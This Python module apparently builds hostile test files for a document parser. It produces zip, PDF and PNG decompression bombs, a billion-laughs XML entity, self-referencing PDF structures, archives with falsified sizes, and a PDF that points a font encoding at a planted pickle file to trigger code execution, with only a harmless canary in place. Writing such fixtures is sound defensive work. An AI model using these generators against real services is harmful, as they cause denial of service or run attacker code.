"""Files that harm those who read them, made here: bombs, cycles, locks, lies."""

import gzip
import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path
from typing import Final

import pikepdf

WORD: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE: Final = "http://schemas.openxmlformats.org/package/2006"
OOXML: Final = "application/vnd.openxmlformats-officedocument."
LAUGHS: Final = (
    '<!DOCTYPE a [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    + "]>"
)


def pdf_objects(objects: Iterable[bytes], trailer: bytes = b"") -> bytes:
    """Write a PDF of numbered objects, the first being its catalogue."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, content))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(b"trailer\n<</Root 1 0 R /Size %d %b>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start))
    return out.getvalue()


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """Write a stream of a PDF."""
    return b"<</Length %d %b>>\nstream\n%b\nendstream" % (len(content), entries, content)


_HELVETICA: Final = b"<</Type/Font /Subtype/Type1 /BaseFont/Helvetica /Encoding/WinAnsiEncoding>>"


def pdf(*pages: str) -> bytes:
    """Write a PDF of pages of text."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * place) for place in range(len(pages)))
    objects = [b"<</Type/Catalog /Pages 2 0 R>>", b"<</Type/Pages /Count %d /Kids [%b]>>" % (len(pages), kids)]
    objects.append(_HELVETICA)
    for place, text in enumerate(pages):
        page = (
            b"<</Type/Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources <</Font <</F 3 0 R>>>> /Contents %d 0 R>>"
        )
        objects.append(page % (5 + 2 * place))
        lines = b"".join(b"(%b) Tj T* " % line.encode("cp1252") for line in text.split("\n"))
        objects.append(stream(b"BT /F 12 Tf 14 TL 72 770 Td %b ET" % lines))
    return pdf_objects(objects)


def pdf_with_contents(contents: bytes, resources: bytes = b"/Font <</F 3 0 R>>", *more: bytes) -> bytes:
    """Write a PDF of one page that draws what a stream says."""
    page = b"<</Type/Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources <<%b>> /Contents 5 0 R>>" % resources
    pages = b"<</Type/Pages /Count 1 /Kids [4 0 R]>>"
    return pdf_objects([b"<</Type/Catalog /Pages 2 0 R>>", pages, _HELVETICA, page, contents, *more])


def locked_pdf(user: str, owner: str) -> bytes:
    """Write a PDF with passwords, AES-256."""
    out = io.BytesIO()
    text = "Rapport\n" + "Un texte secret de plusieurs mots que chacun peut lire.\n" * 4
    with pikepdf.open(io.BytesIO(pdf(text))) as file:
        file.save(out, encryption=pikepdf.Encryption(user=user, owner=owner, allow=pikepdf.Permissions(extract=False)))
    return out.getvalue()


def endless_pages() -> bytes:
    """Write a PDF whose list of pages holds itself."""
    return pdf_objects(
        [
            b"<</Type/Catalog /Pages 2 0 R>>",
            b"<</Type/Pages /Count 2 /Kids [3 0 R]>>",
            b"<</Type/Pages /Count 2 /Parent 2 0 R /Kids [2 0 R]>>",
        ]
    )


def drawing_itself() -> bytes:
    """Write a PDF whose page draws a form that draws itself, twice."""
    form = stream(b"/X Do /X Do", b"/Type/XObject /Subtype/Form /BBox [0 0 9 9] /Resources <</XObject <</X 6 0 R>>>>")
    return pdf_with_contents(stream(b"/X Do"), b"/XObject <</X 6 0 R>>", form)


def many_pages(count: int) -> bytes:
    """Write a PDF of very many empty pages."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    head = [b"<</Type/Catalog /Pages 2 0 R>>", b"<</Type/Pages /Count %d /Kids [%b]>>" % (count, kids)]
    return pdf_objects([*head, *[b"<</Type/Page /Parent 2 0 R /MediaBox [0 0 595 842]>>"] * count])


def pdf_bomb(megabytes: int) -> bytes:
    """Write a PDF whose page unpacks to very many words."""
    packer = zlib.compressobj(9)
    piece = b"BT /F 12 Tf 72 770 Td (mot) Tj ET\n" * 30_000
    packed = b"".join(packer.compress(piece) for _ in range(megabytes))
    return pdf_with_contents(stream(packed + packer.flush(), b"/Filter/FlateDecode"))


def pdf_twice_packed(megabytes: int) -> bytes:
    """Write a PDF whose page is packed twice: a few thousand bytes that unpack to very many blanks."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1_000_000)) for _ in range(megabytes)) + packer.flush()
    return pdf_with_contents(stream(zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode]"))


class _Canary:
    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.touch, (self._path,)


def pdf_naming_a_pickle(folder: Path, canary: Path) -> bytes:
    """Write a PDF whose table of letters is a program that lies in a folder (CVE-2025-64512)."""
    for name in ("evil.pickle.gz", "evil.pickle"):
        content = pickle.dumps(_Canary(canary))
        (folder / name).write_bytes(gzip.compress(content) if name.endswith("gz") else content)
    place = (folder / "evil").as_posix().replace("/", "#2F").encode()
    font = b"<</Type/Font /Subtype/Type0 /BaseFont/A /Encoding /%b /DescendantFonts [7 0 R]>>" % place
    below = b"<</Type/Font /Subtype/CIDFontType2 /BaseFont/A /CIDSystemInfo <</Registry(A) /Ordering(B)>>>>"
    return pdf_with_contents(stream(b"BT /G 12 Tf 72 770 Td (Bonjour) Tj ET"), b"/Font <</G 6 0 R>>", font, below)


def zipped(members: dict[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Write an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(body: bytes, before: str = "") -> bytes:
    """Write a Word file."""
    document = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>'.encode()
    return _office(
        {"word/document.xml": document + body + b"</w:body></w:document>"},
        f"{OOXML}wordprocessingml.document.main+xml",
        "word/document.xml",
    )


def paragraph(text: str) -> bytes:
    """Write a paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()


def xlsx(rows: bytes, before: str = "", dimension: str = "A1:XFD1048576") -> bytes:
    """Write a workbook of one sheet."""
    sheet = f'<?xml version="1.0"?>{before}<worksheet xmlns="{SHEET}"><dimension ref="{dimension}"/><sheetData>'
    names = '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets>'
    book = f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}">{names}</workbook>'
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    return _office(
        {
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": _relations(relation),
            "xl/worksheets/sheet1.xml": sheet.encode() + rows + b"</sheetData></worksheet>",
        },
        f"{OOXML}spreadsheetml.sheet.main+xml",
        "xl/workbook.xml",
        {"/xl/worksheets/sheet1.xml": f"{OOXML}spreadsheetml.worksheet+xml"},
    )


def cell(place: str, text: str) -> bytes:
    """Write a cell of a workbook."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def _office(members: dict[str, bytes], kind: str, main: str, others: dict[str, str] | None = None) -> bytes:
    parts = {f"/{main}": kind, **(others or {})}
    overrides = "".join(f'<Override PartName="{name}" ContentType="{part}"/>' for name, part in parts.items())
    defaults = (
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    )
    types = f'<Types xmlns="{PACKAGE}/content-types">{defaults}{overrides}</Types>'
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="{main}"/>'
    return zipped({"[Content_Types].xml": types.encode(), "_rels/.rels": _relations(relation), **members})


def _relations(relation: str) -> bytes:
    return f'<Relationships xmlns="{PACKAGE}/relationships">{relation}</Relationships>'.encode()


def odt(content: str) -> bytes:
    """Write an OpenDocument text."""
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def epub(page: str) -> bytes:
    """Write an e-book of one page."""
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    book = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest>'
        '<item id="p" href="p.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="p"/></spine></package>'
    )
    members = {"META-INF/container.xml": container, "a.opf": book, "p.xhtml": page}
    return zipped({"mimetype": b"application/epub+zip", **{name: text.encode() for name, text in members.items()}})


def lying_about_size(archive: bytes, name: bytes, size: int) -> bytes:
    """Make an archive say that a member unpacks to fewer bytes than it does."""
    out = bytearray(archive)
    for mark, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        place = out.find(mark)
        while place >= 0:
            if out[place + name_at : place + name_at + len(name)] == name:
                struct.pack_into("<I", out, place + size_at, size)
            place = out.find(mark, place + 4)
    return bytes(out)


def endless_list(count: int) -> bytes:
    """Write an archive that is hardly more than a list of members."""
    entry = b"PK\x01\x02" + bytes(24) + struct.pack("<HHHHHII", 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count & 0xFFFF, count & 0xFFFF, len(entry) * count, 4, 0)
    return b"PK\x03\x04" + entry * count + end


def png_header(width: int, height: int) -> bytes:
    """Write an image that says it is very large, in one colour and few bytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    packer = zlib.compressobj(9)
    row = bytes(1 + width // 8)
    pixels = b"".join(packer.compress(row * 100) for _ in range(height // 100)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
